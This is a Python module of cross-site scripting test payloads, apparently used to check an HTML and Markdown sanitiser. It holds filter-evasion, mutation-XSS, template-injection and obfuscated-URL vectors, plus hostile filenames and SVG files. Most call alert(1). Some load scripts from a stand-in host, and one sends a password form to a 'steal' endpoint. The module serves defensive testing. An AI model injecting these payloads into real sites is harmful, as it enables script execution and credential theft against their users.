"""What strangers write where a text is expected, so that a browser runs it.

By the families of OWASP's Cross Site Scripting Prevention and Filter Evasion cheat sheets, and our own: what Markdown,
front matter, the sanitiser's own parser, and templates could be talked into. Each calls `alert` if it is run.
"""

from itertools import product
from typing import Final

# Elements of their own that run something by themselves, or bring in what does.
_ELEMENTS: Final = r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script>alert(1)
<script>alert(1)//
<script src=//xss.invalid/x.js></script>
<script src=//xss.invalid/x.js
<script/src="https://xss.invalid/x.js"></script>
<SCRIPT SRC=//xss.invalid/x.js?<B>
<script type=module>import "//xss.invalid/x.js"</script>
<script type="text/javascript">alert(1)</script>
<script language=javascript>alert(1)</script>
<script>/*<!--*/alert(1)/*-->*/</script>
<script>alert(String.fromCharCode(88))</script>
<script\x20type="text/javascript">alert(1);</script>
<script/xss>alert(1)</script>
<script/xss src="//xss.invalid/x.js"></script>
<<SCRIPT>alert(1);//\<</SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<sc\0ript>alert(1)</sc\0ript>
</script><script>alert(1)</script>
"></script><script>alert(1)</script>
';alert(1)//
\";alert(1);//
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</template><script>alert(1)</script>
--><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
<iframe src="javascript:alert(1)"></iframe>
<iframe src=javascript:alert(1) <
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;">
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<frameset onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type="text/x-scriptlet" data="https://xss.invalid/x.html"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==" type="image/svg+xml">
<applet code="javascript:alert(1)"></applet>
<base href="javascript:alert(1)//">
<base href="//xss.invalid/"><a href=x>relative</a>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; url=https://xss.invalid/">
<META HTTP-EQUIV="Set-Cookie" Content="a=b">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<link rel=stylesheet href="javascript:alert(1)">
<link rel=stylesheet href="//xss.invalid/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href="//xss.invalid/p">
<style>@import '//xss.invalid/x.css';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)></b>
<div style="background-image: url(javascript:alert(1))">x</div>
<div style="width: expression(alert(1));">x</div>
<div style="behavior:url(xss.htc)">x</div>
<b style="position:fixed;inset:0;background:url(//xss.invalid/s)">x</b>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script>alert&lpar;1&rpar;</script>
<svg><script href="data:,alert(1)"/>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x">
<svg><image href=x onerror=alert(1)>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><style>*{background:url(//xss.invalid/s)}</style></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#https://xss.invalid" xlink:href="javascript:alert(1)">x</maction></math>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<button form=x formaction=javascript:alert(1)>x</button><form id=x></form>
<form action="//xss.invalid/steal"><input name=password type=password></form>
<isindex type=image src=x onerror=alert(1)>
<input type=image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay onplay=alert(1) src="data:audio/wav;base64,UklGRg=="></audio>
<picture><source srcset=x><img src=x onerror=alert(1)></picture>
<img srcset="x 1x" onerror=alert(1)>
<bgsound src="javascript:alert(1)">
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<table background="javascript:alert(1)"><tr><td>x</table>
<table><td background="javascript:alert(1)">x</table>
<layer src="//xss.invalid/x.html"></layer>
<ilayer src="//xss.invalid/x.html"></ilayer>
<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>
<marquee onstart=alert(1)>x</marquee>
<marquee behavior=alternate onbounce=alert(1)>x</marquee>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)>x</dialog>
<portal src="//xss.invalid/">
<fencedframe src="//xss.invalid/">
<slot onslotchange=alert(1)></slot>
<custom-element onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</custom-element>
<a href=# ping="//xss.invalid/ping">x</a>
<a href="https://example.org" target=_blank>x</a>
<div contenteditable onfocus=alert(1) autofocus>x</div>
<popover popover id=p onbeforetoggle=alert(1)></popover><button popovertarget=p>x</button>
"""

# Handlers on elements that are let through, written in every way that HTML has.
_TAGS: Final = ("img src=x", "a href=#", "p", "details open", "td", "code")
_HANDLERS: Final = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter")
_WRITTEN: Final = r"""
<IMG SRC=x ONERROR=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x onerror=`alert(1)`>
<img src=x onerror =alert(1)>
<img src=x	onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img//src=x//onerror=alert(1)//
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>
<img src=x onerror=\u0061lert(1)>
<img src=x onerror=[1].find(alert)>
<img src=x onerror=window['al'+'ert'](1)>
<img \x22\x22\x22><script>alert(1)</script>">
<img src="x` `<script>alert(1)</script>"` `>
<img src='x' alt='" onerror=alert(1) x="'>
<img src=x alt="><img src=x onerror=alert(1)>">
<img src=x title="</p><script>alert(1)</script>">
<img src=x alt=`<img src=y onerror=alert(1)>`>
<img src=x onerror=alert(1)//
<img src=x onerror=alert(1)\x20
<img src=x style="x:expression(alert(1))">
<img src=x id=x name=body onload=alert(1)>
<a onmouseover=alert(1)>x
<a href="x" onclick="alert(1)" x="
<a href='#' style='display:block' onmouseover=alert(1)>x</a>
<b onmouseover=alert(1)>x</b>
<p id=x tabindex=1 onfocus=alert(1)></p>
<p title="&quot; onclick=alert(1) ">x</p>
<abbr title='" onmouseover="alert(1)'>x</abbr>
<ol start='1" onclick="alert(1)'><li>x</li></ol>
<td align='left" onclick="alert(1)'>x</td>
<h2 id='x" onclick="alert(1)'>x</h2>
<div class='note" onclick="alert(1)'>x</div>
<code class='language-x" onclick="alert(1)'>x</code>
<li id='fn:1" onclick="alert(1)'>x</li>
<h1 id=cookie>x</h1><h2 id=__proto__>x</h2><h3 id=content>x</h3>
<a id=location href=javascript:alert(1)>x</a>
<img name=getElementById src=x><img name=querySelector src=x>
"""

# Addresses that run, hidden from whoever looks for `javascript:`.
_ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript&#0000058alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#0000106avascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "jav&Tab;ascript&colon;alert&lpar;1&rpar;",
    "java\tscript:alert(1)",
    "java%0ascript:alert(1)",
    "%6Aavascript:alert(1)",
    " &#14; javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\u2028javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript:/*--></script>*/alert(1)",
    "javascript:void(alert(1))",
    "vbscript:msgbox(1)",
    "VBScript:alert(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:,alert(1)",
    "blob:https://example.org/alert",
    "filesystem:https://example.org/temporary/x.html",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "jar:https://example.org!/x.html",
    "feed:javascript:alert(1)",
    "intent://x#Intent;scheme=javascript;end",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "javaſcript:alert(1)",
)

# What only a parser of Markdown is talked into.
_MARKDOWN: Final = r"""
[x](javascript:alert(1) "title")
[x](<javascript:alert(1)>)
[x]( javascript:alert(1) )
[x](javascript:alert(1) 'a" onmouseover="alert(1)')
[x](https://example.org "a\" onmouseover=\"alert(1)")
[x](https://example.org 'a" onmouseover="alert(1)')
[x](https://example.org"onmouseover="alert(1))
[x](https://example.org/?"onclick=alert(1)//)
![x](https://example.org/a.png"onerror="alert(1))
![x" onerror="alert(1)](x.png)
![<img src=x onerror=alert(1)>](x.png)
![x](x.png "a\" onerror=\"alert(1)")
![x](x.png 'a" onerror="alert(1)')
[![x](javascript:alert(1))](javascript:alert(1))
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==)
<javascript:alert(1)>
<javascript:alert(1)@example.org>
<mailto:"onclick=alert(1)"@example.org>
<https://example.org/"onclick="alert(1)>
`<script>alert(1)</script>`
`` ` <img src=x onerror=alert(1)> ``
[x][evil]¶¶[evil]: javascript:alert(1) "title"
[x][quoted]¶¶[quoted]: https://example.org "a" onmouseover="alert(1)"
[x][split]¶¶[split]: java¶script:alert(1)
![x][image]¶¶[image]: x.png "\" onerror=\"alert(1)"
```html" onclick="alert(1)¶x¶```
```"><script>alert(1)</script>¶x¶```
```¶</code></pre><script>alert(1)</script>¶```
~~~js onmouseover=alert(1)¶x¶~~~
    </code></pre><script>alert(1)</script>
!!! note "<script>alert(1)</script>"¶    x
!!! note "\" onclick=\"alert(1)"¶    x
!!! "note onclick=alert(1)"¶    x
> [!NOTE]<img src=x onerror=alert(1)>¶> x
> [!"onclick=alert(1)]¶> x
Text[^x"onclick=alert(1)].¶¶[^x"onclick=alert(1)]: A note.
Text[^<script>alert(1)</script>].¶¶[^<script>alert(1)</script>]: A note.
| <img src=x onerror=alert(1)> | b |¶|---|---|¶| <script>alert(1)</script> | [x](javascript:alert(1)) |
| a |¶|:-" onclick="alert(1)-:|¶| b |
# <img src=x onerror=alert(1)>
## x {#a" onclick="alert(1)}
## x {: onclick="alert(1)" }
x¶{: style="background:url(javascript:alert(1))" onclick=alert(1) }
<div markdown="1" onclick="alert(1)">¶¶*x*¶¶</div>
<p><script>alert(1)</p></script>
<div>¶¶<script>¶¶alert(1)¶¶</script>¶¶</div>
Term¶:   <img src=x onerror=alert(1)>
*[HTML]: " onmouseover="alert(1)¶¶HTML
1. x¶   <script>alert(1)</script>
- [ ] <input onfocus=alert(1) autofocus>
***<b onclick=alert(1)>***
\<script>alert(1)\</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
<a href="javascript&#x3a;alert(1)">**x**</a>
wzxhzdk:0<script>alert(1)</script>wzxhzdk:1
klzzwxh:0000 <img src=x onerror=alert(1)> klzzwxh:0001
<script>alert(1)</script>
[x](https://example.org/`<img src=x onerror=alert(1)>`)
**<img src=`x` onerror=alert(1)>**
<a href="https://example.org/¶onclick=alert(1)¶">x</a>
Mailto: [x](mailto:a@example.org?subject=<script>alert(1)</script>)
[x](tel:1"onclick="alert(1))
[x](//xss.invalid "ping")
[x](\\xss.invalid)
[x](/\xss.invalid/<script>)
"""

# What is harmless to a sanitiser and something else to a browser: parsed twice, by two rules (mXSS).
_MUTATING: Final = r"""
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<math></p><style><!--</style><img src=x onerror=alert(1)>--></style></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<plaintext><img src=x onerror=alert(1)>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<template><img src=x onerror=alert(1)></template>
<template><s><template><s><img src=x onerror=alert(1)>X</s></template></s></template>
<select><style><!--</style><a rel="--></style></select><img src=x onerror=alert(1)>">
<select><iframe></select><img src=x onerror=alert(1)>
<table><a href="</table><img src=x onerror=alert(1)>">x</a></table>
<table><tr><td><svg><desc><td><style></style><img src=x onerror=alert(1)>
<p><a><p><a><p><a><img src=x onerror=alert(1)>
<a href="x"><a href="javascript:alert(1)">x</a></a>
<div><div title="&lt;/div&gt;&lt;img src=x onerror=alert(1)&gt;">x</div></div>
<p title="--&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>
<img alt="`><img src=x onerror=alert(1)>">
<annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>
<math><annotation-xml encoding="text/html"><p><style></p><img src=x onerror=alert(1)></style>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">
<br><br/onmouseover=alert(1)><br>
<//script><script>alert(1)</script>
</p onclick=alert(1)><p>x
<%<!--'%><script>alert(1)</script -->
<script <script>alert(1)</script>
<img src="x" <img src=x onerror=alert(1)>>
<a <img src=x onerror=alert(1)>>x</a>
<p/"onclick=alert(1)//>x</p>
<\x00img src=x onerror=alert(1)>
<img\x0bsrc=x\x0conerror=alert(1)>
<img\xa0src=x onerror=alert(1)>
\xbcscript\xbealert(1)\xbc/script\xbe
＜script＞alert(1)＜/script＞
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\x1b$B<script>alert(1)</script>
"""

# What templates, scripts and JSON in a page could make of a text.
_TEXTS: Final = r"""
{{ 7 * 7 }}{{ alert(1) }}
{% raw %}{{ config }}<script>alert(1)</script>{% endraw %}
{{ ''.__class__.__mro__ }}
${alert(1)}
`${alert(1)}`
<%= alert(1) %>
#{alert(1)}
{{constructor.constructor('alert(1)')()}}
'-alert(1)-'
"-alert(1)-"
\'-alert(1)//
</script><img src=x onerror=alert(1)>
<!--<script>
"}]}</script><script>alert(1)</script>
'"><svg onload=alert(1)>
" autofocus onfocus=alert(1) x="
' autofocus onfocus=alert(1) x='
" onmouseover="alert(1)
x" accesskey="x" onclick="alert(1)
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
<mark>x</mark><img src=x onerror=alert(1)>
"><mark onmouseover=alert(1)>
&#60;script&#62;alert(1)&#60;/script&#62;
&lt;img src=x onerror=alert(1)&gt;
&quot;onmouseover=alert(1)&quot;
%22onmouseover=alert(1)%22
%00<script>alert(1)</script>
\u2028alert(1)\u2029
\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>
"""


def _listed(lines: str) -> list[str]:
    """A vector a line; what cannot stand in a source file is written as its escape, a line's end as ¶."""
    for written, meant in _ESCAPES.items():
        lines = lines.replace(written, meant)
    return [line.replace("¶", "\n") for line in lines.strip("\n").split("\n")]


_ESCAPES: Final = {
    r"\0": "\0", r"\x00": "\0", r"\x20": " ", r"\x0b": "\x0b", r"\x0c": "\x0c", r"\xa0": "\xa0", r"\xbc": "\xbc",
    r"\xbe": "\xbe", r"\x1b": "\x1b", r"\x22": '"',
}  # fmt: skip
_HANDLED: Final = [f"<{tag} {handler}=alert(1)>x" for tag, handler in product(_TAGS, _HANDLERS)]
_LINKED: Final = [f'<a href="{address}">x</a>' for address in _ADDRESSES]
_MARKED: Final = [f"[x]({address}) ![x]({address})" for address in _ADDRESSES]

BODIES: Final = tuple(
    dict.fromkeys(
        [
            *_listed(_ELEMENTS), *_listed(_WRITTEN), *_HANDLED, *_LINKED, *_MARKED, *_listed(_MARKDOWN),
            *_listed(_MUTATING), *_listed(_TEXTS),
        ]
    )
)  # fmt: skip
# Names of files, in which a slash would be a folder; some of them no address can have, and those are refused.
NAMES: Final = tuple(
    dict.fromkeys(
        [
            "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "'><svg onload=alert(1)>", '"onmouseover="alert(1)',
            '" autofocus onfocus=alert(1) x="', "'-alert(1)-'", '"-alert(1)-"', "javascript:alert(1)", "JaVaScRiPt:alert(1)",
            "data:text,alert(1)", "{{7*7}}", "${alert(1)}", "&lt;script&gt;alert(1)&lt;script&gt;", "<script>alert(1)",
            "&#x3c;img src=x onerror=alert(1)&#x3e;", "x](javascript:alert(1))", "a&b=c;d", "＜script＞alert(1)",
            "\u2028alert(1)", "-->alert(1)", "]]>alert(1)", "<!--", "%3Cscript%3Ealert(1)", "..alert(1)", r"a\u003cscript",
        ]
    )
)  # fmt: skip
# A drawing that runs whatever a drawing may, once it is opened by itself.
DRAWINGS: Final = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)">'
    '<iframe src="javascript:parent.alert(1)"/></body></foreignObject></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href='
    '"data:text/javascript,alert(1)"/><image href="x" onerror="alert(1)"/></svg>',
    '<?xml version="1.0"?><?xml-stylesheet href="data:text/css,*{}"?><html xmlns="http://www.w3.org/1999/xhtml">'
    "<script>alert(1)</script></html>",
    '<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
)
